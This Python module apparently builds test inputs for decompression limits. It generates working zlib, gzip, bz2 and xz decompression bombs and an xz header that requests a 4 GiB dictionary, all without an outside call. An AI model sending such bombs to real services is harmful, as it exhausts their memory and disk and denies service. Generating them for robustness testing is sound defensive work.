"""Compressed data that expands without end, made in no time: one compressed block, repeated."""

from __future__ import annotations

import bz2
import lzma
import struct
import zlib
from functools import cache
from typing import NamedTuple

MEBI = 1 << 20


class Deflated(NamedTuple):
    """A raw deflate stream with the size and the CRC-32 of what it gives."""

    data: bytes
    size: int
    crc: int


def _times(matrix: list[int], vector: int) -> int:
    total = 0
    for column in matrix:
        if not vector:
            break
        if vector & 1:
            total ^= column
        vector >>= 1
    return total


@cache
def _crc_of_zeros(length: int) -> list[int]:
    """The matrix that takes a CRC over as many zero bytes (as zlib's crc32_combine has it)."""
    power = [0xEDB88320] + [1 << n for n in range(31)]  # one zero bit
    for _ in range(3):
        power = [_times(power, column) for column in power]
    result = [1 << n for n in range(32)]
    while length:
        if length & 1:
            result = [_times(power, column) for column in result]
        power = [_times(power, column) for column in power]
        length >>= 1
    return result


def crc_joined(first: int, second: int, size: int) -> int:
    """The CRC-32 of two pieces put together, the second of so many bytes."""
    return _times(_crc_of_zeros(size), first) ^ second


def repeated(block: bytes, times: int) -> Deflated:
    """The block so many times over, deflated; raises nothing, holds only the compressed bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    one, crc = zlib.crc32(block), 0
    shift = _crc_of_zeros(len(block))
    for _ in range(times):
        crc = _times(shift, crc) ^ one
    return Deflated(piece * times + b"\x03\x00", len(block) * times, crc)


def zlib_bomb(block: bytes, times: int) -> bytes:
    """The block so many times over, as zlib has it (with the right Adler-32)."""
    a, b = 1, 0
    check = zlib.adler32(block)
    one_a, one_b = (check & 0xFFFF) - 1, (check >> 16) - len(block)  # as if it had begun with a = 0
    for _ in range(times):
        b = (b + len(block) * a + one_b) % 65521
        a = (a + one_a) % 65521
    return b"\x78\xda" + repeated(block, times).data + struct.pack(">I", b << 16 | a)


def gzip_of(deflated: Deflated) -> bytes:
    """A gzip member around a deflate stream."""
    ends = struct.pack("<II", deflated.crc, deflated.size & 0xFFFFFFFF)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + deflated.data + ends


def gzipped(data: bytes) -> bytes:
    """The bytes as one gzip member without a time in it."""
    return gzip_of(repeated(data, 1))


def gzip_bomb(start: bytes, mebibytes: int, byte: bytes = b" ") -> bytes:
    """Gzip that gives the start and then very many times one byte."""
    return gzipped(start) + gzip_of(repeated(byte * MEBI, mebibytes))


def bz2_bomb(start: bytes, mebibytes: int) -> bytes:
    """Bzip2 of several streams: the start, then zeros."""
    return bz2.compress(start) + bz2.compress(bytes(32 * MEBI)) * (mebibytes // 32)


def xz_bomb(start: bytes, mebibytes: int) -> bytes:
    """XZ of several streams: the start, then zeros."""
    return lzma.compress(start) + lzma.compress(bytes(32 * MEBI)) * (mebibytes // 32)


def xz_of_huge_dictionary(data: bytes) -> bytes:
    """XZ whose header asks for a dictionary of 4 GiB."""
    packed = bytearray(lzma.compress(data, filters=[{"id": lzma.FILTER_LZMA2, "preset": 1}]))
    start, size = 12, (packed[12] + 1) * 4
    packed[packed.index(b"\x21\x01", start) + 2] = 40
    packed[start + size - 4 : start + size] = struct.pack("<I", zlib.crc32(packed[start : start + size - 4]))
    return bytes(packed)
